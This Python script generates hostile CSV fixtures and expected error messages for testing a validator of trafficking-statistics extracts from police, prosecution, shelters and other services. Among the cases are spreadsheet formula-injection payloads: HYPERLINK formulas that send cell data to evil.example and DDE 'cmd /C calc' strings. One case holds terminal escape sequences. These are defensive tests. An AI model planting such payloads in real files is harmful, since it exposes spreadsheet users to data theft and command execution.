#!/usr/bin/env python3
"""gen_files.py — writes the hostile extracts of tests/bad/data/ and their
expectations, tests/bad/EXPECT.  The files are committed; this script is
how they were made (run it again after changing a case, from any folder).

EXPECT: one line per file, fields separated by '|':
    file | service | exit code | line | column | text
line/column: where the message must point ('-' = the file as a whole,
'*' = some line); text: a fixed string the located message contains.
Files bigger than a few kilobytes (a 1 MiB field, a 17 MiB line) are made
by test_hostile.sh at run time instead.
"""
import os

HERE = os.path.dirname(os.path.abspath(__file__))
DATA = os.path.join(HERE, "data")

HEAD = {
    "police": "registration_date;fact_ref;district;offence;exploitation_form;suspects;victims",
    "prosecution": "case_ref;entry_date;district;offence;exploitation_form;defendants;decision;decision_date",
    "inspectorates": "year,inspectorate,sector,inspections,thb_reports,victims_referred",
    "shelters": "centre;person_ref;referral_date;referred_by;sex;age;nationality;exploitation_form;admitted;admission_date",
    "convictions": "bulletin_ref;judgment_date;registration_date;court_district;offence;exploitation_form;sex;"
                   "nationality;prison_months;suspension;suspended_months;fine_eur;confiscation",
    "immigration": "document_ref,issue_date,document_type,procedure,sex,nationality,minor",
}
ROW = {
    "police": ["2019-03-01;PV-19-{n};ANT;THB;SEX;2;1"],
    "prosecution": ["PR-19-{n};2019-01-15;BRU;THB;LAB;2;SUMMONS;2019-03-01"],
    "inspectorates": ["2019,CLS,{sector},45,1,3"],
    "shelters": ["Payoke;PY-{n};2019-01-27;police;F;30;Romania;SEX;yes;2019-02-01"],
    "convictions": ["CJ-{n};2019-03-01;2019-09-01;BRU;THB;SEX;F;RO;24;PARTIAL;12;1.500,00;no"],
    "immigration": ["OE-{n},2019-02-08,AI3M,THB,M,ER,no"],
}
SECTORS = "ABCDEFGHIJKLMNOPQRSTU"


def rows(service, count, start=1):
    out = []
    for i in range(start, start + count):
        out.append(ROW[service][0].format(n="%04d" % i, sector=SECTORS[(i - 1) % len(SECTORS)]))
    return out


def text(service, body, head=None, nl="\n", final=True):
    lines = [HEAD[service] if head is None else head] + body
    s = nl.join(lines)
    return s + (nl if final else "")


cases = []   # (file, service, bytes, exit, line, column, text)


def case(name, service, data, exit_code, line, column, msg):
    if isinstance(data, str):
        data = data.encode("utf-8")
    cases.append((name, service, data, exit_code, line, column, msg))


# ---- police --------------------------------------------------------------
ok = rows("police", 4)
case("police_truncated.csv", "police", text("police", ok)[:-25], 65, "5", "fact_ref",
     "the file was cut inside its last record: 2 fields where the header has 7")
case("police_truncated_in_quote.csv", "police",
     text("police", ok + ['2019-04-01;"PV-19-0005;ANT;THB;SEX;1;1']), 65, "6", "fact_ref",
     "unterminated quoted field at the end of the file")
case("police_unterminated_quote.csv", "police",
     text("police", ok[:2] + ['2019-04-01;PV-19-0009;"ANT;THB;SEX;1;1'] + ok[2:]), 65, "4", "district",
     "unterminated quoted field")
case("police_quote_in_field.csv", "police",
     text("police", ok[:2] + ['2019-04-01;PV-19-00"9;ANT;THB;SEX;1;1'] + ok[2:]), 65, "4", "-",
     "malformed quoting")
case("police_nul.csv", "police", text("police", ok[:2] + ["2019-04-01;PV\x00-19-0009;ANT;THB;SEX;1;1"] + ok[2:]),
     65, "4", "-", "NUL byte")
case("police_invalid_utf8.csv", "police",
     text("police", ["2019-03-01;PV-é-1;ANT;THB;SEX;2;1"] + ok[1:]).encode() + b"2019-05-01;PV-\xc3\x28;ANT;THB;SEX;1;1\n",
     65, "6", "-", "invalid UTF-8")
case("police_bom_invalid_utf8.csv", "police",
     b"\xef\xbb\xbf" + text("police", ok[:2]).encode() + b"2019-05-01;PV-\xed\xa0\x80;ANT;THB;SEX;1;1\n",
     65, "4", "-", "invalid UTF-8")
case("police_overlong_utf8.csv", "police",
     text("police", ["2019-03-01;PV-é-1;ANT;THB;SEX;2;1"]).encode() + b"2019-05-01;PV-\xc0\xaf;ANT;THB;SEX;1;1\n",
     65, "3", "-", "invalid UTF-8")
case("police_empty.csv", "police", b"", 65, "-", "-", "empty file")
case("police_header_only.csv", "police", text("police", []), 65, "1", "-", "header only")
case("police_header_only_no_newline.csv", "police", HEAD["police"], 65, "1", "-", "header only")
case("police_blank_lines.csv", "police", "\r\n\n\r\n\n", 65, "*", "-", "no header line")
case("police_bom_only.csv", "police", b"\xef\xbb\xbf", 65, "*", "-", "")
case("police_duplicate_refs.csv", "police", text("police", ok + [ok[1]]), 65, "6", "fact_ref",
     "duplicate record: the same fact_ref as line 3")
case("police_negative.csv", "police", text("police", ok[:2] + ["2019-04-01;PV-19-0009;ANT;THB;SEX;-2;1"]),
     65, "4", "suspects", "not a whole number")
case("police_overflow.csv", "police",
     text("police", ok[:2] + ["2019-04-01;PV-19-0009;ANT;THB;SEX;1;99999999999999999999999999"]),
     65, "4", "victims", "too large")
case("police_int32_overflow.csv", "police",
     text("police", ok[:2] + ["2019-04-01;PV-19-0009;ANT;THB;SEX;2147483648;1"]),
     65, "4", "suspects", "too large")
case("police_30_february.csv", "police", text("police", ok[:2] + ["30/02/2019;PV-19-0009;ANT;THB;SEX;1;1"]),
     65, "4", "registration_date", "there is no 30 February 2019")
case("police_29_february_2019.csv", "police", text("police", ok[:2] + ["2019-02-29;PV-19-0009;ANT;THB;SEX;1;1"]),
     65, "4", "registration_date", "there is no 29 February 2019")
case("police_future_date.csv", "police", text("police", ok[:2] + ["2999-01-01;PV-19-0009;ANT;THB;SEX;1;1"]),
     65, "4", "registration_date", "in the future")
case("police_year_zero.csv", "police", text("police", ok[:2] + ["0000-00-00;PV-19-0009;ANT;THB;SEX;1;1"]),
     65, "4", "registration_date", "is not a date")
case("police_as_prosecution.csv", "police", text("prosecution", rows("prosecution", 3)), 65, "1", "-",
     "this looks like a prosecution extract")
case("police_png.csv", "police",
     b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa"
     b"\x00\x00\x00\x0bIDATx\x9cc\xf8\x0f\x00\x01\x01\x01\x00\x18\xdd\x8d\xb4\x00\x00\x00\x00IEND\xaeB`\x82",
     65, "3", "-", "NUL byte")
case("police_utf16.csv", "police", ("\ufeff" + text("police", ok)).encode("utf-16-le"), 65, "1", "-", "NUL byte")
case("police_formula_district.csv", "police",
     text("police", ok[:2] + ['2019-04-01;PV-19-0009;"=HYPERLINK(""http://evil.example/?""&A1;""click"")";THB;SEX;1;1']),
     65, "4", "district", "unknown district '=HYPERLINK(")
case("police_cr_only.csv", "police", text("police", ok[:2] + ["2019-04-01;PV-19-0009;ANTX;THB;SEX;1;1"] + ok[2:], nl="\r"),
     65, "4", "district", "unknown district 'ANTX'")
case("police_only_delimiters.csv", "police", text("police", [";;;;;;", ";;;;;;"]), 65, "2", "registration_date",
     "value missing")
case("police_wrong_delimiter.csv", "police", text("police", [r.replace(";", ",") for r in ok],
                                                 head=HEAD["police"].replace(";", ",")),
     65, "1", "-", "missing required column")
case("police_escape_sequence.csv", "police",
     text("police", ok[:2] + ["2019-04-01;PV-19-0009;\x1b[2J\x1b[31mANT\x07\u009b0m;THB;SEX;1;1"]),
     65, "4", "district", "unknown district '\\x1B[2J\\x1B[31mANT\\x07\\x9B0m'")
case("police_duplicate_column.csv", "police",
     text("police", [r + ";ANT" for r in ok], head=HEAD["police"] + ";arrondissement"), 65, "1", "arrondissement",
     "given twice")

# ---- prosecution (Windows-1252, as the Prosecution writes it) --------------
okp = rows("prosecution", 4)
cp = lambda s: s.encode("cp1252")
case("prosecution_truncated.csv", "prosecution",
     cp(text("prosecution", okp[:3] + ["PR-19-0009;2019-01-15;Liège;TEH;"], final=False)), 65, "5",
     "exploitation_form", "the file was cut inside its last record: 5 fields where the header has 8")
case("prosecution_nul.csv", "prosecution", cp(text("prosecution", okp)) + b"\x00\x00\x00\x00", 65, "6", "-", "NUL byte")
case("prosecution_negative_defendants.csv", "prosecution",
     cp(text("prosecution", okp[:2] + ["PR-19-0009;2019-01-15;Liège;TEH;LAB;-1;SUMMONS;2019-03-01"])),
     65, "4", "defendants", "not a whole number")
case("prosecution_overflow_defendants.csv", "prosecution",
     cp(text("prosecution", okp[:2] + ["PR-19-0009;2019-01-15;Liège;TEH;LAB;12345678901;SUMMONS;2019-03-01"])),
     65, "4", "defendants", "too large")
case("prosecution_31_april.csv", "prosecution",
     cp(text("prosecution", okp[:2] + ["PR-19-0009;31/04/2019;Liège;TEH;LAB;1;SUMMONS;2019-05-01"])),
     65, "4", "entry_date", "there is no 31 April 2019")
case("prosecution_future_decision.csv", "prosecution",
     cp(text("prosecution", okp[:2] + ["PR-19-0009;2019-01-15;Liège;TEH;LAB;1;SUMMONS;01/01/2999"])),
     65, "4", "decision_date", "in the future")
case("prosecution_formula_decision.csv", "prosecution",
     cp(text("prosecution", okp[:2] + ["PR-19-0009;2019-01-15;Liège;TEH;LAB;1;@SUM(1+1)*cmd|' /C calc'!A0;2019-03-01"])),
     65, "4", "decision", "unknown decision")
case("prosecution_as_police.csv", "prosecution", text("police", ok), 65, "1", "-", "this looks like a police extract")
case("prosecution_duplicate_refs.csv", "prosecution", cp(text("prosecution", okp + [okp[0]])), 65, "6", "case_ref",
     "duplicate record")

# ---- inspectorates (comma-delimited) ------------------------------------------
oki = rows("inspectorates", 4)
case("inspectorates_count_overflow.csv", "inspectorates",
     text("inspectorates", oki[:2] + ["2019,CLS,K,9999999999999999,1,3"]), 65, "4", "inspections", "too large")
case("inspectorates_negative.csv", "inspectorates", text("inspectorates", oki[:2] + ["2019,CLS,K,-45,1,3"]),
     65, "4", "inspections", "not a whole number")
case("inspectorates_future_year.csv", "inspectorates", text("inspectorates", oki[:2] + ["2999,CLS,K,45,1,3"]),
     65, "4", "year", "in the future")
case("inspectorates_duplicate_key.csv", "inspectorates", text("inspectorates", oki + [oki[2]]), 65, "6", "*",
     "duplicate record")
case("inspectorates_semicolons.csv", "inspectorates",
     text("inspectorates", [r.replace(",", ";") for r in oki], head=HEAD["inspectorates"].replace(",", ";")),
     65, "1", "-", "missing required column")
case("inspectorates_10000_columns.csv", "inspectorates",
     text("inspectorates", [r + "," * 9994 for r in oki[:3]] + [oki[3] + "," * 9993],
          head=HEAD["inspectorates"] + "".join(",extra%d" % i for i in range(9994))),
     65, "5", "-", "9999 fields where the header has 10000")

# ---- shelters ------------------------------------------------------------------
oks = rows("shelters", 4)
case("shelters_age_overflow.csv", "shelters",
     text("shelters", oks[:2] + ["Payoke;PY-9;2019-01-27;police;F;4294967296;Romania;SEX;yes;2019-02-01"]),
     65, "4", "age", "too large")
case("shelters_negative_age.csv", "shelters",
     text("shelters", oks[:2] + ["Payoke;PY-9;2019-01-27;police;F;-30;Romania;SEX;yes;2019-02-01"]),
     65, "4", "age", "not a whole number")
case("shelters_29_february_2021.csv", "shelters",
     text("shelters", oks[:2] + ["Payoke;PY-9;29/02/2021;police;F;30;Romania;SEX;no;"]),
     65, "4", "referral_date", "there is no 29 February 2021")
case("shelters_future_admission.csv", "shelters",
     text("shelters", oks[:2] + ["Payoke;PY-9;2019-01-27;police;F;30;Romania;SEX;yes;2999-12-31"]),
     65, "4", "admission_date", "in the future")
case("shelters_formula_nationality.csv", "shelters",
     text("shelters", oks[:2] + ["Payoke;PY-9;2019-01-27;police;F;30;=cmd|' /C calc'!A0;SEX;yes;2019-02-01"]),
     65, "4", "nationality", "unknown country")
case("shelters_invalid_utf8.csv", "shelters",
     text("shelters", ["Sürya;SU-1;2019-01-27;police;F;30;Roumanie;SEX;yes;2019-02-01"]).encode()
     + b"S\xfcrya;SU-2;2019-01-27;police;F;30;Roumanie;SEX;yes;2019-02-01\n", 65, "3", "-", "invalid UTF-8")
case("shelters_as_convictions.csv", "shelters", text("convictions", rows("convictions", 2)), 65, "1", "-",
     "this looks like a convictions extract")

# ---- convictions (Windows-1252) -------------------------------------------------
okc = rows("convictions", 4)
case("convictions_fine_overflow.csv", "convictions",
     cp(text("convictions", okc[:2] + ["CJ-9;2019-03-01;2019-09-01;BRU;THB;SEX;F;RO;24;PARTIAL;12;"
                                       "99.999.999.999.999.999.999,00;no"])),
     65, "4", "fine_eur", "99.999.999.999.999.999.999,00")
case("convictions_negative_fine.csv", "convictions",
     cp(text("convictions", okc[:2] + ["CJ-9;2019-03-01;2019-09-01;BRU;THB;SEX;F;RO;24;PARTIAL;12;-1.500,00;no"])),
     65, "4", "fine_eur", "not an amount")
case("convictions_prison_overflow.csv", "convictions",
     cp(text("convictions", okc[:2] + ["CJ-9;2019-03-01;2019-09-01;BRU;THB;SEX;F;RO;99999999999;PARTIAL;12;0;no"])),
     65, "4", "prison_months", "too large")
case("convictions_30_february.csv", "convictions",
     cp(text("convictions", okc[:2] + ["CJ-9;30-02-2019;2019-09-01;BRU;THB;SEX;F;RO;24;PARTIAL;12;0;no"])),
     65, "4", "judgment_date", "there is no 30 February 2019")
case("convictions_future_judgment.csv", "convictions",
     cp(text("convictions", okc[:2] + ["CJ-9;2999-03-01;2999-09-01;BRU;THB;SEX;F;RO;24;PARTIAL;12;0;no"])),
     65, "4", "judgment_date", "in the future")
case("convictions_as_immigration.csv", "convictions", text("immigration", rows("immigration", 3)), 65, "1", "-",
     "missing required column bulletin_ref")
case("convictions_truncated_in_quote.csv", "convictions",
     cp(text("convictions", okc[:3] + ['CJ-9;"2019-03-01;2019-09-01;BRU;TEH'], final=False)), 65, "5", "judgment_date",
     "unterminated quoted field at the end of the file")
case("convictions_formula_ref.csv", "convictions",
     cp(text("convictions", okc[:2] + ['"=HYPERLINK(""http://evil.example/""&B2;""x"")";2019-03-01;2019-09-01;BRU;THB;'
                                       'SEX;F;RO;24;PARTIAL;12;0;peut-être'])),
     65, "4", "confiscation", "unknown yesno")

# ---- immigration (comma-delimited) -------------------------------------------------
okm = rows("immigration", 4)
case("immigration_empty_bom_crlf.csv", "immigration", b"\xef\xbb\xbf\r\n", 65, "*", "-", "")
case("immigration_header_only_crlf.csv", "immigration", text("immigration", [], nl="\r\n"), 65, "1", "-",
     "header only")
case("immigration_duplicate_refs.csv", "immigration", text("immigration", okm + [" " + okm[3]]), 65, "6",
     "document_ref", "duplicate record")
case("immigration_future.csv", "immigration", text("immigration", okm[:2] + ["OE-9,2999-02-08,AI3M,THB,M,ER,no"]),
     65, "4", "issue_date", "in the future")
case("immigration_formula_fields.csv", "immigration",
     text("immigration", okm[:2] + ['+cmd|\' /C calc\'!A0,2019-02-08,-2+3,THB,M,ER,no',
                                    '@SUM(1+1),2019-02-08,AI3M,=1+1,M,ER,no']),
     65, "4", "document_type", "unknown document")
case("immigration_long_ref.csv", "immigration",
     text("immigration", okm[:2] + ["OE-" + "9" * 300 + ",2019-02-08,AI3M,THB,M,ER,no"]),
     65, "4", "document_ref", "reference longer than 200 characters")


def main():
    os.makedirs(DATA, exist_ok=True)
    for f in os.listdir(DATA):
        os.unlink(os.path.join(DATA, f))
    with open(os.path.join(HERE, "EXPECT"), "w", encoding="utf-8") as exp:
        exp.write("# file | service | exit | line | column | text  (written by gen_files.py)\n")
        for name, service, data, code, line, column, msg in cases:
            with open(os.path.join(DATA, name), "wb") as fp:
                fp.write(data)
            exp.write("%s|%s|%d|%s|%s|%s\n" % (name, service, code, line, column, msg))
    print("%d files in %s" % (len(cases), DATA))


if __name__ == "__main__":
    main()
